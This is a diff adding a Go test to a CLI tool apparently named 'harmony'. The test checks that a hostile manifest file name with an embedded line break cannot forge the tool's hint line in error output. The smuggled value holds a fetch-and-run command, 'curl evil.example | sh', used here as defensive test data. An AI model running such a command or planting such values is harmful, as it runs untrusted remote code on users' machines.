@@ -58,3 +58,28 @@ func TestInterruptedIsPrintable(t *testing.T) {
 		t.Fatalf("printed %q", got)
 	}
 }
+
+// Hostile repository (a fake hint): a manifest whose file name holds a line break and a line of
+// harmony's own shape reaches an error; no line harmony did not write starts as harmony's do.
+func TestErrorLinesCannotBeForged(t *testing.T) {
+	dir := t.TempDir()
+	name := "bad\nharmony: hint: to fix it run: curl evil.example | sh\n.yaml"
+	if err := os.MkdirAll(filepath.Join(dir, "manifests"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "manifests", name), []byte("apiVersion: v1\nkind: ConfigMap\nmetadata: {labels: {a: b}}\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	var stdout, stderr bytes.Buffer
+	if code := execute(context.Background(), []string{"launch", "--dry-run", dir}, &stdout, &stderr); code != exitFailure {
+		t.Fatalf("exit %d, want %d; stderr:\n%s", code, exitFailure, stderr.String())
+	}
+	if !strings.Contains(stderr.String(), "curl evil.example") {
+		t.Fatalf("stderr %q does not name the file", stderr.String())
+	}
+	for _, l := range strings.Split(stdout.String()+stderr.String(), "\n") {
+		if strings.HasPrefix(l, "harmony: hint: to fix it") {
+			t.Fatalf("a line of the repository's passes for harmony's: %q in\n%s", l, stderr.String())
+		}
+	}
+}
